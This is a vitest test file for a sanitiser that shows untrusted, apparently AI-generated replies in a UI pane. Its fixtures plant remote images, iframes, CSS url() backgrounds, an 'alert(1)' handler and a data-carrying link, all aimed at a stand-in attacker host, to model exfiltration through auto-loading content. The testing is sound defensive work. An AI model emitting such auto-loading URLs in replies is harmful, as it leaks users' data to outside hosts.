// @vitest-environment happy-dom
/**
 * The defence in depth behind the neutraliser (issue 25): whatever a host's renderer builds that
 * would load by itself is removed before it reaches the pane, and so is what a late renderer step
 * adds afterwards. The renderer here misbehaves on purpose.
 */
import { afterEach, describe, expect, it, vi } from "vitest";
import { renderUntrustedReply } from "../../../src/ui/untrusted/render-reply";
import { RENDER_TIMEOUT_MS } from "../../../src/ui/untrusted/staged-render";
import type { UiHost } from "../../../src/ui/host";
import { fetchedUrls } from "../../support/fetched-urls";

const tick = () => new Promise((resolve) => setTimeout(resolve, 0));

afterEach(() => {
	vi.useRealTimers();
});

function remoteImage(doc: Document, url: string): HTMLImageElement {
	const img = doc.createElement("img");
	img.setAttribute("src", url);
	return img;
}

/** An element parsed from HTML, as a renderer that writes HTML would make it. */
function fromHtml(doc: Document, html: string): Node {
	const parsed = new DOMParser().parseFromString(`<body>${html}</body>`, "text/html");
	return doc.importNode(parsed.body.firstChild!, true);
}

describe("the rendered reply, checked again", () => {
	it("loses what a renderer made that loads (an image, a frame, a CSS url, a handler) before it is moved into the pane", async () => {
		let stagedConnected: boolean | null = null;
		const host: Pick<UiHost, "renderMarkdown"> = {
			renderMarkdown(el, markdown) {
				stagedConnected = el.isConnected;
				const p = el.ownerDocument.createElement("p");
				p.textContent = markdown;
				p.setAttribute("onclick", "alert(1)");
				el.append(fromHtml(el.ownerDocument, '<span style="background: url(https://attacker.example/bg.png)"></span>'));
				const frame = el.ownerDocument.createElement("iframe");
				frame.setAttribute("src", "https://attacker.example/frame");
				el.append(p, remoteImage(el.ownerDocument, "https://attacker.example/x.png"), frame);
			},
		};
		const pane = document.body.appendChild(document.createElement("div"));
		renderUntrustedReply(host, pane, "Hello", { reads: [] });
		await tick();
		expect(stagedConnected).toBe(false);
		expect(pane.textContent).toBe("Hello");
		expect(fetchedUrls(pane)).toEqual([]);
		expect(pane.querySelector("[onclick], [style]")).toBeNull();
	});

	it("removes an image a late step adds after the reply is in the pane, and makes its links safe", async () => {
		let late: HTMLElement | null = null;
		const host: Pick<UiHost, "renderMarkdown"> = {
			renderMarkdown(el, markdown) {
				late = el.ownerDocument.createElement("p");
				late.textContent = markdown;
				el.append(late);
				return { done: Promise.resolve(), cleanup: () => undefined };
			},
		};
		const pane = document.body.appendChild(document.createElement("div"));
		renderUntrustedReply(host, pane, "Hello", { reads: [] });
		await tick();
		late!.append(remoteImage(pane.ownerDocument, "https://attacker.example/late.png"));
		late!.append(fromHtml(pane.ownerDocument, '<b style="background-image: url(https://attacker.example/late-bg.png)"></b>'));
		late!.append(fromHtml(pane.ownerDocument, '<a href="https://attacker.example/?d=late">late link</a>'));
		await tick();
		expect(fetchedUrls(pane)).toEqual([]);
		expect(pane.textContent).toBe("Hellolate linkhttps://attacker.example/?d=late");
		expect(pane.querySelector("[href]")).toBeNull();
	});

	it("stages the host's render in a document with no browsing context, so what a post-processor adds there fetches nothing, and moves only checked nodes into the pane", async () => {
		let stagedView: unknown = "not rendered";
		const made: HTMLImageElement[] = [];
		const host: Pick<UiHost, "renderMarkdown"> = {
			renderMarkdown(el, markdown) {
				stagedView = el.ownerDocument.defaultView;
				const p = el.ownerDocument.createElement("p");
				p.textContent = markdown;
				// A favicon post-processor: it sets src before the element is anywhere.
				const img = el.ownerDocument.createElement("img");
				img.setAttribute("src", "https://secret-words.attacker.example/favicon.ico");
				made.push(img);
				el.append(img, p);
			},
		};
		const pane = document.body.appendChild(document.createElement("div"));
		renderUntrustedReply(host, pane, "Hello", { reads: [] });
		await tick();
		expect(stagedView).toBeNull();
		expect(made[0]?.ownerDocument).not.toBe(document);
		expect(pane.textContent).toBe("Hello");
		expect(pane.querySelector("p")?.ownerDocument).toBe(document);
		expect(fetchedUrls(pane)).toEqual([]);
	});

	describe("shows the reply as plain text, never the host's output", () => {
		const reply = "Some **bold** text, [a link](https://docs.example/a?d=x) and `code`.\n\n![](https://attacker.example/p.png) <img src=https://attacker.example/raw.png>";
		const expectSafeRendering = (pane: HTMLElement): void => {
			expect([...pane.querySelectorAll("p.redline-plain")].map((p) => p.textContent)).toEqual(reply.split("\n\n"));
			expect(pane.querySelector("a, img, strong, code")).toBeNull();
			expect(fetchedUrls(pane)).toEqual([]);
		};

		it("when the host's renderer throws, leaving what it made behind", async () => {
			const host: Pick<UiHost, "renderMarkdown"> = {
				renderMarkdown(el) {
					el.append(remoteImage(el.ownerDocument, "https://attacker.example/half.png"), "half");
					throw new Error("no window");
				},
			};
			const pane = document.body.appendChild(document.createElement("div"));
			renderUntrustedReply(host, pane, reply, { reads: [] });
			await tick();
			expectSafeRendering(pane);
			expect(pane.textContent).not.toContain("half");
		});

		it("when its rendering fails later", async () => {
			const host: Pick<UiHost, "renderMarkdown"> = {
				renderMarkdown(el) {
					el.append("half");
					return { done: Promise.reject(new Error("no window")), cleanup: () => undefined };
				},
			};
			const pane = document.body.appendChild(document.createElement("div"));
			renderUntrustedReply(host, pane, reply, { reads: [] });
			await tick();
			expectSafeRendering(pane);
			expect(pane.textContent).not.toContain("half");
		});

		it("when the host renders nothing", async () => {
			const host: Pick<UiHost, "renderMarkdown"> = { renderMarkdown: () => undefined };
			const pane = document.body.appendChild(document.createElement("div"));
			renderUntrustedReply(host, pane, reply, { reads: [] });
			await tick();
			expectSafeRendering(pane);
		});

		it("when the host's rendering never ends (a step waiting for a window it will not get)", async () => {
			vi.useFakeTimers();
			let cleaned = false;
			const host: Pick<UiHost, "renderMarkdown"> = {
				renderMarkdown: () => ({ done: new Promise<void>(() => undefined), cleanup: () => (cleaned = true) }),
			};
			const pane = document.body.appendChild(document.createElement("div"));
			renderUntrustedReply(host, pane, reply, { reads: [] });
			await vi.advanceTimersByTimeAsync(RENDER_TIMEOUT_MS + 1);
			expectSafeRendering(pane);
			expect(cleaned).toBe(true);
		});
	});
});
